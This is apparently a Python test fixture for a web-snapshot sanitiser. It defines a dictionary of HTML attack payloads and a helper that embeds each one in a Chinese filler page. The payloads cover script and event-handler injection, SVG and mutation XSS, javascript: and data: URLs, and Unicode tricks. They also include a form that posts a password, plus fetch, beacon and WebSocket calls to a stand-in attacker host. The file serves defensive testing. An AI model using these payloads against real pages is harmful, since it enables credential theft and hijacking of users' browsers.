"""Attacks by a page on whoever looks at its snapshot. `BAIT` stands for an address of the attacker's; `OWNED` is what a script would do."""

from __future__ import annotations

OWNED = "fetch('BAIT/ran');parent.document.title='owned';top.location='BAIT/top';alert('owned')"
ATTACKS: dict[str, str] = {
    "script": f"<script>{OWNED}</script>",
    "script_src": '<script src="BAIT/x.js"></script><script async type=module src="BAIT/m.js"></script>',
    "event_handlers": f'<img src="BAIT/i.png" onerror="{OWNED}"><body onload="{OWNED}"><div onmouseover="{OWNED}" style="position:fixed;inset:0">x</div>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=BAIT/refresh">',
    "meta_policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="Set-Cookie" content="a=b">',
    "base": '<base href="BAIT/"><a href="x">y</a><img src="relative.png">',
    "svg_script": f'<svg onload="{OWNED}"><script>{OWNED}</script><image href="BAIT/svg.png"/><use href="BAIT/u.svg#a"/></svg>',
    "svg_animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>click</text></a><set attributeName=onload to="fetch(`BAIT/set`)"/></svg>',
    "svg_foreign": f"<svg><foreignObject><iframe srcdoc=\"<script>{OWNED}</script>\"></iframe></foreignObject></svg>",
    "css_import": '<style>@import url("BAIT/a.css");body{background:url(BAIT/bg.png)}@font-face{font-family:x;src:url(BAIT/f.woff)}*{font-family:x}</style>',
    "css_inline": '<p style="background:url(BAIT/inline.png);list-style-image:url(BAIT/li.png)">x</p><link rel=stylesheet href="BAIT/l.css">',
    "css_overlay": '<div style="position:fixed;inset:0;background:#fff;z-index:9999">请在此输入口令</div>',
    "form": '<form action="BAIT/steal" method=post><input name=password autofocus><button formaction="BAIT/steal2">登录</button></form><script>document.forms[0].submit()</script>',
    "iframe": f'<iframe src="BAIT/frame"></iframe><iframe srcdoc="<script>{OWNED}</script>"></iframe><frameset><frame src="BAIT/fs"></frameset>',
    "object": '<object data="BAIT/o.html" type="text/html"></object><embed src="BAIT/e.swf"><applet code="BAIT/a.class"></applet>',
    "data_url": '<iframe src="data:text/html,<script>fetch(`BAIT/data`)</script>"></iframe><a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "javascript_url": f'<a href="javascript:{OWNED}">x</a><a href=" java&#115;cript&colon;alert(1)">y</a><iframe src="javascript:{OWNED}"></iframe>',
    "picture_sources": '<picture><source srcset="BAIT/s.webp"><img srcset="BAIT/1.png 1x, BAIT/2.png 2x" src="BAIT/p.png" loading=eager></picture><input type=image src="BAIT/in.png">',
    "media": '<video src="BAIT/v.mp4" poster="BAIT/poster.png" autoplay></video><audio src="BAIT/a.mp3" autoplay></audio><track src="BAIT/t.vtt">',
    "preload": '<link rel=preload as=image href="BAIT/pre.png"><link rel=prefetch href="BAIT/pf"><link rel=dns-prefetch href="BAIT"><link rel=icon href="BAIT/fav.ico">',
    "ping": '<a href="BAIT/a" ping="BAIT/ping">x</a><body background="BAIT/body.png"><table background="BAIT/tb.png"><td background="BAIT/td.png">x</table>',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={OWNED!r}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=BAIT/mx onerror=alert(1)&gt;">',
    "template": f"<template><script>{OWNED}</script></template><div><template shadowrootmode=open><img src=BAIT/sh onerror=alert(1)></template></div>",
    "unclosed": f"<p>开始<textarea><title></textarea><img src=BAIT/un onerror=alert(1)><!-- <script>{OWNED}</script><textarea><title></textarea><img src=BAIT/tt onerror=alert(1)>--><xmp><script>{OWNED}</script>",
    "unicode_tricks": "<p>公司\u202e证认\u202c\u200b\u2066x\u2069 \ufeff&#x202e;&zwnj;</p><script\u2028src='BAIT/u.js'></script><scr\0ipt>fetch('BAIT/nul')</scr\0ipt>",
    "our_own_signs": "<p>\ue000<img src=BAIT/e0 onerror=alert(1)>\ue001 &#xE000;\"><script>fetch('BAIT/e1')</script>&#xE001;</p><td colspan='\ue000'>x",
    "encoded": "<script>fetch('BAIT/' + String.fromCharCode(120))</script>&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=BAIT/ee onerror=alert(1)&amp;gt;",
    "websocket": "<script>new WebSocket('BAIT'.replace('http','ws'));navigator.sendBeacon('BAIT/beacon');new Worker('BAIT/w.js')</script>",
    "popup": "<script>window.open('BAIT/popup');history.pushState(0,0,'/logout')</script><a id=a href='BAIT/auto' target=_top>x</a><script>a.click()</script>",
    "deep": "<div>" * 5000 + "<img src=BAIT/deep onerror=alert(1)>" + "</div>" * 10,
}  # fmt: skip


def page_with(attack: str, said: str, bait: str = "http://bait.invalid") -> str:
    """A page that says what is found, then attacks."""
    words = "示例厂区占地三万平方米，现有员工二百余人，年产各类阀门十万台，产品销往各地，欢迎新老客户来厂参观洽谈。" * 4
    return f"<html><head><title>示例</title></head><body><p>{said}，质量可靠。</p><p>{words}</p>{attack.replace('BAIT', bait)}<p>完</p></body></html>"
